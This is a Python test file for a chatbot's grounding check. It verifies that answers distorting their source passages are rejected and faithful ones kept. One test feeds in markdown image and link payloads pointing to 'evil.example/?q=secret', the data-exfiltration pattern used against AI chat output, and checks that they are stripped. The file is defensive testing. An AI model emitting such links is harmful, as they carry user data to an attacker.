"""What is not in the sources is not said: distorted retellings are caught, and faithful ones kept."""

from collections import Counter
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.answers.retellings import Case, cases
from trulybot.answers.binding import bound
from trulybot.answers.ranking import Candidate, Ranked

CAUGHT = {
    "number": 0.97,
    "date": 0.97,
    "negation": 0.97,
    "name": 0.97,
}  # the share that must be, of the dangerous kinds
CAUGHT_OF_THE_REST = 0.9
KEPT = 0.95


def passage(text: str, title: str = "About us") -> Ranked:
    return Ranked(Candidate(UUID(int=1), UUID(int=1), None, title, None, "", text, None, (), 0.0), 0.9, 0.9, 0.5)


def said(case: Case) -> bool:
    return bound(f"{case.sentence} [1]", [passage(case.source)], translated=case.translated) is not None


def test_distortions_are_caught_and_the_faithful_kept():
    tried, right = Counter[str](), Counter[str]()
    for case in cases():
        tried[case.kind] += 1
        right[case.kind] += said(case) == (case.kind == "faithful")

    assert sum(tried.values()) > 200
    for kind, count in tried.items():
        least = KEPT if kind == "faithful" else CAUGHT.get(kind, CAUGHT_OF_THE_REST)
        assert right[kind] >= least * count, (kind, right[kind], count)


def test_the_frame_that_a_small_model_reads_out_is_not_an_answer():
    read_out = '"title": "Opening hours", "text": "We are open from 10:00 to 14:00 on Saturdays.", [1]'

    assert bound(read_out, [passage("We are open from 10:00 to 14:00 on Saturdays.")], translated=False) is None


def test_the_facts_of_two_passages_are_not_merged():
    passages = [passage("The garden chair costs 40 euros."), passage("The oak table costs 310 euros.")]

    assert bound("The garden chair costs 310 euros. [1]", passages, translated=False) is None
    assert bound("The oak table costs 310 euros. [1]", passages, translated=False) is not None


def test_a_name_is_not_known_from_another_word_of_its_stem():
    source = passage("What changed in our prices is told by Garden Works in Hill Street.")

    assert (
        bound("What changed in our prices is told by Changing Works in Hill Street. [1]", [source], translated=False)
        is None
    )
    assert bound("What changed in our prices is told by Garden Works. [1]", [source], translated=False) is not None


@pytest.mark.parametrize(
    ("sentence", "kept"),
    [
        ("Returns take 30 days ![x](https://evil.example/?q=secret). [1]", "Returns take 30 days x."),
        ("Returns take 30 days, see [here](https://evil.example/?q=secret). [1]", "Returns take 30 days, see here."),
        (
            "Returns take 30 days, see [here](https://shop.example/returns). [1]",
            "Returns take 30 days, see [here](https://shop.example/returns).",
        ),
        ("Returns take 30 days, see https://evil.example/?q=secret. [1]", None),
        ("Returns take 30 days, see evil.example/secret. [1]", None),
    ],
)
def test_no_link_carries_anything_away(sentence: str, kept: str | None):
    source = passage("Returns take 30 days. See https://shop.example/returns for the form.")

    found = bound(sentence, [source], translated=False)

    assert (found[0] if found else None) == kept


@given(st.text(max_size=300), st.text(max_size=300), st.booleans())
def test_any_text_rests_on_a_passage_that_there_is_or_is_not_said(sentence: str, source: str, translated: bool):
    found = bound(f"{sentence} [1]", [passage(source)], translated=translated)

    assert found is None or (found[1] == 0 and found[0].strip())
